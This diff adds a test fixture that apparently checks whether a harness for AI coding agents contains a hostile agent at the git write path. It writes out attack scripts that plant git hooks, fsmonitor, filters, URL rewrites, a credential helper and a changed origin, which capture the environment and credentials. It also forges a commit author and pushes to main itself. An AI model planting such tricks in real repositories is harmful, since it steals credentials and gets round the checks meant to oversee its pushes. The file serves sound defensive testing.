@@ -1,0 +1,101 @@
+import { chmod, readdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { shellQuote } from "../../src/util/shell.js";
+import { git } from "../helpers/git.js";
+
+/*
+ * Agents that attack the write path. Each is a shell script run as the `command` agent in the
+ * checkout: it plants something git would execute or consult (a hook, fsmonitor, a filter, a
+ * URL rewrite, a credential helper, a new origin), then makes an ordinary change so the run has
+ * something to push. Whatever the plant runs writes what it saw (its environment, its stdin)
+ * into `leakDir`, outside the checkout, so a test can read it after the sandbox is gone.
+ */
+
+export interface Attack {
+  name: string;
+  /** Shell lines run in the checkout before the ordinary change. */
+  plant: (ctx: { leakDir: string; evilRoot: string; serverUrl: string }) => string;
+  /** True when the plant runs inside the sandbox by design (a filter on the agent's own `git add`). */
+  runsInSandbox?: boolean;
+}
+
+const spy = (leakDir: string, name: string): string =>
+  `#!/bin/sh\n{ echo "argv: $*"; env; cat 2>/dev/null; } > ${shellQuote([join(leakDir, `${name}.leak`)])} 2>&1\nexit 0\n`;
+
+/** Writes executable `content` to `path` from inside a shell script. */
+const plantScript = (path: string, content: string): string => `cat > ${path} <<'HARNESS_EOF'\n${content}HARNESS_EOF\nchmod +x ${path}`;
+
+export const ATTACKS: readonly Attack[] = [
+  {
+    name: "pre-push, post-commit, reference-transaction and pre-commit hooks",
+    plant: ({ leakDir }) =>
+      ["pre-push", "post-commit", "reference-transaction", "pre-commit", "commit-msg", "post-checkout"]
+        .map((hook) => plantScript(`.git/hooks/${hook}`, spy(leakDir, `hook-${hook}`)))
+        .join("\n"),
+  },
+  {
+    name: "core.hooksPath pointing at the agent's own hooks",
+    plant: ({ leakDir }) =>
+      ["mkdir -p .evil-hooks", ...["pre-push", "post-commit", "reference-transaction", "pre-commit"].map((hook) => plantScript(`.evil-hooks/${hook}`, spy(leakDir, `hookspath-${hook}`))), 'git config core.hooksPath "$PWD/.evil-hooks"'].join("\n"),
+  },
+  {
+    name: "core.fsmonitor",
+    plant: ({ leakDir }) => [plantScript(".git/fsmonitor-spy", spy(leakDir, "fsmonitor")), 'git config core.fsmonitor "$PWD/.git/fsmonitor-spy"'].join("\n"),
+  },
+  {
+    name: "a clean/smudge filter in .gitattributes and config",
+    runsInSandbox: true,
+    plant: ({ leakDir }) =>
+      [
+        plantScript(".git/filter-spy", `#!/bin/sh\nenv > ${shellQuote([join(leakDir, "filter.leak")])}\ncat\n`),
+        "printf '* filter=evil\\n' > .gitattributes",
+        'git config filter.evil.clean "$PWD/.git/filter-spy"',
+        'git config filter.evil.smudge "$PWD/.git/filter-spy"',
+        "git config filter.evil.required true",
+      ].join("\n"),
+  },
+  {
+    name: "url.<x>.insteadOf and pushInsteadOf rewriting GitHub to the agent's server",
+    plant: ({ evilRoot, serverUrl }) =>
+      [`git config url.${shellQuote([`file://${evilRoot}/`])}.insteadOf ${shellQuote([`${serverUrl}/`])}`, `git config url.${shellQuote([`file://${evilRoot}/`])}.pushInsteadOf ${shellQuote([`${serverUrl}/`])}`].join("\n"),
+  },
+  {
+    name: "a credential helper",
+    plant: ({ leakDir }) => [plantScript(".git/cred-spy", spy(leakDir, "credential-helper")), 'git config credential.helper "$PWD/.git/cred-spy"', 'git config credential.useHttpPath true'].join("\n"),
+  },
+  {
+    name: "origin changed to the agent's server",
+    plant: ({ evilRoot }) => [`git remote set-url origin ${shellQuote([`file://${evilRoot}/acme/widgets.git`])}`, `git remote set-url --push origin ${shellQuote([`file://${evilRoot}/acme/widgets.git`])}`].join("\n"),
+  },
+  {
+    name: "its own commits with a forged author, and a push of its own to main",
+    plant: ({ leakDir }) =>
+      [
+        "echo forged > forged.txt",
+        "git add forged.txt",
+        "git -c user.name='Linus Torvalds' -c user.email=torvalds@example.com commit -q -m 'Totally legit'",
+        `if git push origin HEAD:refs/heads/main > ${shellQuote([join(leakDir, "self-push.out")])} 2>&1; then echo "exit 0"; else echo "exit $?"; fi >> ${shellQuote([join(leakDir, "self-push.out")])}`,
+        `if git fetch origin > ${shellQuote([join(leakDir, "self-fetch.out")])} 2>&1; then echo "exit 0"; else echo "exit $?"; fi >> ${shellQuote([join(leakDir, "self-fetch.out")])}`,
+      ].join("\n"),
+  },
+];
+
+/** The agent script for `attack`: the plant, then an ordinary change to `hello.txt`. */
+export async function hostileAgent(dir: string, attack: Attack, ctx: { leakDir: string; evilRoot: string; serverUrl: string }): Promise<string> {
+  const script = join(dir, `agent-${String(ATTACKS.indexOf(attack))}.sh`);
+  await writeFile(script, `#!/bin/sh\nset -e\n${attack.plant(ctx)}\necho 'hello from the agent' > hello.txt\necho 'planted and changed hello.txt'\n`);
+  await chmod(script, 0o755);
+  return script;
+}
+
+/** Every leak file the plants wrote, with its content. */
+export async function leaks(leakDir: string): Promise<Array<{ name: string; content: string }>> {
+  const names = (await readdir(leakDir).catch(() => [])).filter((name) => name.endsWith(".leak"));
+  return Promise.all(names.map(async (name) => ({ name, content: await readFile(join(leakDir, name), "utf8") })));
+}
+
+/** All refs of a bare repository with their shas, to compare before and after a run. */
+export function refsOf(bare: string): Record<string, string> {
+  const out = git(bare, "for-each-ref", "--format=%(refname) %(objectname)");
+  return Object.fromEntries(out.split("\n").filter((line) => line !== "").map((line) => line.split(" ") as [string, string]));
+}
